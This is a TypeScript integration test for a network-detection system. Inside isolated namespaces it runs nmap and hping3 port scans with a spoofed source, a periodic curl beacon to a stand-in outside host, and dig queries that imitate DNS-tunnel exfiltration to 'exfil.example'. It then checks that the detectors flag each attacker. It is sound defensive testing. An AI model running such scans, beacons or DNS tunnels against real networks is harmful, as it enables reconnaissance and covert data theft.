// Real tools through the live sentinel and through the replay of their capture (issue 20): nmap,
// hping3, curl and dig attack from one network namespace, curl, dig and iperf3 make benign traffic,
// the eBPF sentinel exports what it sees on the other namespace's interface while tcpdump captures
// the same interface; libs/detect's detectors, fed each stream, find the same attackers (every one
// of them) and nothing else. Needs root, BTF, the bpf/ toolchain and the tools (.ci/run).
import { execFileSync, spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connectBus, type Bus } from '@omega/bus';
import { DetectorSet } from '@omega/detect';
import { EventBatch, type Event } from '@omega/proto';
import { runService, type RunningService } from '@omega/service';
import { eventually, withNats } from '@omega/testkit';
import { buildSentinel, sentinelServiceConfigSchema } from './sentinel-service';
import { replayPackets } from './events/capture-replay';
import { readCapture } from './wire/pcap-reader';
import { DEFAULT_LOADER_PATH } from './sentinel-config';
import { buildLoader } from './testing/loader-build';

const NS_A = `omega-rt-a-${process.pid}`;
const NS_B = `omega-rt-b-${process.pid}`;
const DEV_A = 'omrtA';
const DEV_B = 'omrtB';
const NODE = 'node-real-tools';
const SERVER = '10.197.0.2';
const tmp = mkdtempSync(join(tmpdir(), 'omega-sentinel-tools-'));
const capturePath = join(tmp, 'tools.pcap');

/** Who does what, by source address (the detectors key flows without a workload by it). */
const ATTACKERS: Record<string, string> = {
  'ip:10.197.0.10': 'port-scan', // nmap -sS of one host's ports
  'ip:10.197.0.11': 'port-scan', // nmap -sT of port 22 over 30 hosts
  'ip:10.197.0.14': 'port-scan', // hping3 SYN sweep of port 6379 over 60 addresses
  'ip:10.197.0.12': 'beacon', // curl every 2 s to an outside address
  'ip:10.197.0.13': 'dns-tunnel', // dig of base32 labels
};
const BENIGN = ['ip:10.197.0.20', 'ip:10.197.0.21', 'ip:10.197.0.22']; // curl, dig, iperf3

/** Runs a tool in the client namespace; hping3 exits 1 when its probe gets no answer (the silent half). */
function inA(tool: string, ...args: string[]): void {
  const run = spawnSync('ip', ['netns', 'exec', NS_A, tool, ...args], { encoding: 'utf8' });
  if (run.status !== 0 && tool !== 'hping3') {
    throw new Error(`${tool} ${args.join(' ')} exited ${run.status}: ${run.stderr}`);
  }
}

function serverIn(ns: string, command: string, args: string[]): ChildProcess {
  return spawn('ip', ['netns', 'exec', ns, command, ...args], { stdio: 'ignore' });
}

const DNS_SERVER = `
const dgram = require('node:dgram');
const dns = require(${JSON.stringify(require.resolve('dns-packet'))});
const s = dgram.createSocket('udp4');
s.on('message', (m, from) => {
  const q = dns.decode(m);
  s.send(dns.encode({ type: 'response', id: q.id, flags: dns.RECURSION_AVAILABLE, questions: q.questions,
    answers: [{ type: 'A', name: q.questions[0].name, ttl: 60, data: '203.0.113.80' }] }), from.port, from.address);
});
s.bind(53, '203.0.113.53');
`;

const nats = withNats();
let running: RunningService<unknown>;
let bus: Bus;
const servers: ChildProcess[] = [];
const seen: Event[] = [];

beforeAll(async () => {
  if (process.getuid?.() !== 0) throw new Error('sentinel real-tools spec: must run as root');
  for (const tool of ['tcpdump', 'nmap', 'hping3', 'curl', 'dig', 'iperf3']) {
    if (spawnSync('which', [tool]).status !== 0) {
      throw new Error(`sentinel real-tools spec: ${tool} is missing (.ci/run installs it)`);
    }
  }
  buildLoader('sentinel real-tools spec');
  const ip = (...args: string[]) => execFileSync('ip', args, { stdio: 'pipe' });
  ip('netns', 'add', NS_A);
  ip('netns', 'add', NS_B);
  ip('link', 'add', DEV_A, 'netns', NS_A, 'type', 'veth', 'peer', 'name', DEV_B, 'netns', NS_B);
  for (const a of [11, 10, 12, 13, 14, 20, 21, 22])
    ip('-n', NS_A, 'addr', 'add', `10.197.0.${a}/24`, 'dev', DEV_A);
  ip('-n', NS_B, 'addr', 'add', `${SERVER}/24`, 'dev', DEV_B);
  for (const [ns, dev] of [
    [NS_A, DEV_A],
    [NS_B, DEV_B],
  ] as const) {
    ip('-n', ns, 'link', 'set', dev, 'up');
    ip('-n', ns, 'link', 'set', 'lo', 'up');
  }
  ip('-n', NS_A, 'route', 'add', '10.197.1.0/24', 'via', SERVER, 'src', '10.197.0.11');
  ip('-n', NS_A, 'route', 'add', '203.0.113.0/24', 'via', SERVER, 'src', '10.197.0.11');
  // Thirty hosts and three outside services answer on B; 10.197.1.31-60 are silent.
  for (let h = 1; h <= 30; h++) ip('-n', NS_B, 'addr', 'add', `10.197.1.${h}/32`, 'dev', 'lo');
  for (const h of [7, 53, 80]) ip('-n', NS_B, 'addr', 'add', `203.0.113.${h}/32`, 'dev', 'lo');
  const www = join(tmp, 'www');
  execFileSync('mkdir', ['-p', www]);
  writeFileSync(join(www, 'index.html'), 'ok\n');
  writeFileSync(join(www, 'beacon'), 'tasks: none\n');
  servers.push(
    serverIn(NS_B, '/usr/bin/python3', ['-m', 'http.server', '8080', '--directory', www]),
    serverIn(NS_B, process.execPath, ['-e', DNS_SERVER]),
    serverIn(NS_B, 'iperf3', ['-s', '-B', '10.197.1.5', '-1']),
  );
  const configFile = join(tmp, 'sentinel.yaml');
  writeFileSync(
    configFile,
    JSON.stringify({
      grpc: { port: 0, host: '127.0.0.1' },
      http: { port: 0, host: '127.0.0.1' },
      nats: { servers: [nats.url] },
      log: { level: 'warn' },
      sentinel: {
        node: NODE,
        mode: 'ebpf',
        loaderPath: DEFAULT_LOADER_PATH,
        dataDir: join(tmp, 'state'),
        flushIntervalMs: 20,
        // The live path's own flow timing (1 s drains, 10 s idle end), as replay uses by default.
        flows: { interfaces: [{ interface: DEV_B, netns: `/run/netns/${NS_B}` }] },
      },
    }),
  );
  running = await runService({
    name: 'sentinel',
    configSchema: sentinelServiceConfigSchema,
    resources: { streams: ['TELEMETRY', 'DLQ'], kv: ['omega_policy'] },
    env: { OMEGA_CONFIG_FILE: configFile },
    argv: [],
    installSignalHandlers: false,
    build: async (p) => {
      await buildSentinel(p);
    },
  });
  nats.beforeStop(async () => {
    await bus?.drain();
    await running?.service.shutdown('test done');
  });
  bus = await connectBus({
    servers: [nats.url],
    name: 'sentinel-tools-spec',
    logger: running.service.logger,
  });
  const consumer = await bus.js.consumers.get('TELEMETRY', {
    filter_subjects: [`omega.telemetry.network.${NODE}`, `omega.telemetry.dns.${NODE}`],
  });
  const messages = await consumer.consume();
  void (async () => {
    for await (const m of messages) seen.push(...EventBatch.decode(m.data).events);
  })();
  // The servers are up when curl and dig get answers.
  await eventually(
    'HTTP and DNS servers',
    () => {
      const http = spawnSync('ip', [
        'netns',
        'exec',
        NS_A,
        'curl',
        '-s',
        '-o',
        '/dev/null',
        `http://10.197.1.1:8080/`,
      ]);
      const dig = spawnSync('ip', [
        'netns',
        'exec',
        NS_A,
        'dig',
        '@203.0.113.53',
        'ready.example',
        '+tries=1',
        '+time=1',
      ]);
      return http.status === 0 && dig.status === 0 ? true : undefined;
    },
    30_000,
  );
}, 120_000);

afterAll(() => {
  for (const s of servers) s.kill();
  for (const ns of [NS_A, NS_B]) spawnSync('ip', ['netns', 'del', ns]);
}, 30_000);

/** Events between this spec's own addresses (the socket probes see the whole machine). */
function ours(event: Event): boolean {
  const mine = (ip = '') => ip.startsWith('10.197.') || ip.startsWith('203.0.113.');
  return mine(event.srcEndpoint?.ip) && mine(event.dstEndpoint?.ip);
}

function findingsOf(events: Iterable<Event>): Map<string, Set<string>> {
  const detectors = new DetectorSet();
  const found = new Map<string, Set<string>>();
  for (const event of events) {
    for (const f of detectors.observe(event)) {
      if (!found.has(f.entityKey)) found.set(f.entityKey, new Set());
      found.get(f.entityKey)!.add(f.detectorId);
    }
  }
  return found;
}

describe('real tools through the live sentinel and the replay of their capture', () => {
  it('give the detectors the same attackers, every one of them, and no benign client', async () => {
    const tcpdump = spawn(
      'ip',
      ['netns', 'exec', NS_B, 'tcpdump', '-i', DEV_B, '-n', '-U', '-s', '0', '-w', capturePath],
      { stdio: ['ignore', 'ignore', 'pipe'] },
    );
    await new Promise<void>((resolve) => {
      let text = '';
      tcpdump.stderr?.on('data', (c: Buffer) => {
        text += c.toString();
        if (text.includes('listening on')) resolve();
      });
    });
    const startNs = BigInt(Date.now()) * 1_000_000n;
    for (let i = 0; i < 5; i++)
      inA('curl', '-s', '-o', '/dev/null', '--interface', '10.197.0.20', 'http://10.197.1.1:8080/');
    for (const name of ['www.example.com', 'api.example.com', 'example.org', 'docs.example.org'])
      inA('dig', '-b', '10.197.0.21', '@203.0.113.53', name, '+tries=1', '+time=1');
    inA('iperf3', '-c', '10.197.1.5', '-B', '10.197.0.22', '-b', '1M', '-t', '2');
    inA(
      'nmap',
      '-sS',
      '-Pn',
      '-n',
      '-p',
      '1-100',
      '-S',
      '10.197.0.10',
      '-e',
      DEV_A,
      '--max-rate',
      '300',
      '10.197.1.1',
    );
    inA('nmap', '-sT', '-Pn', '-n', '-p', '22', '10.197.1.1-30');
    for (let h = 1; h <= 60; h++)
      inA('hping3', '-q', '-S', '-p', '6379', '-c', '1', '-a', '10.197.0.14', `10.197.1.${h}`);
    for (let i = 0; i < 12; i++) {
      inA(
        'curl',
        '-s',
        '-o',
        '/dev/null',
        '--interface',
        '10.197.0.12',
        'http://203.0.113.7:8080/beacon',
      );
      await new Promise((r) => setTimeout(r, 2_000));
    }
    for (let i = 0; i < 14; i++) {
      const label = Array.from(
        { length: 40 },
        () => 'abcdefghijklmnopqrstuvwxyz234567'[Math.floor(Math.random() * 32)],
      ).join('');
      inA(
        'dig',
        '-b',
        '10.197.0.13',
        '@203.0.113.53',
        `${label}.t.exfil.example`,
        'TXT',
        '+tries=1',
        '+time=1',
      );
    }
    // Flows end after 10 s without packets, exported at the next 1 s drain.
    await new Promise((r) => setTimeout(r, 13_000));
    tcpdump.kill();
    await new Promise((r) => tcpdump.on('exit', r));
    await eventually(
      'the last flows on the bus',
      () => (seen.filter(ours).length > 100 ? true : undefined),
      10_000,
    );
    await new Promise((r) => setTimeout(r, 2_000));

    const live = seen.filter((e) => ours(e) && e.timeNs >= startNs - 5_000_000_000n);
    const capture = readCapture(readFileSync(capturePath), 'tools.pcap');
    const replayed = replayPackets(capture.packets, NODE).events.filter(ours);
    const fromLive = findingsOf(live);
    const fromReplay = findingsOf(replayed);
    const summary = (m: Map<string, Set<string>>) =>
      Object.fromEntries([...m].map(([k, v]) => [k, [...v].sort()]).sort());
    expect(summary(fromLive)).toEqual(summary(fromReplay));
    for (const [entity, detector] of Object.entries(ATTACKERS)) {
      expect({ entity, found: [...(fromLive.get(entity) ?? [])] }).toEqual({
        entity,
        found: expect.arrayContaining([detector]),
      });
    }
    expect([...fromLive.keys()].filter((k) => !(k in ATTACKERS))).toEqual([]);
    for (const b of BENIGN) expect(live.some((e) => `ip:${e.srcEndpoint?.ip}` === b)).toBe(true);
  }, 240_000);
});
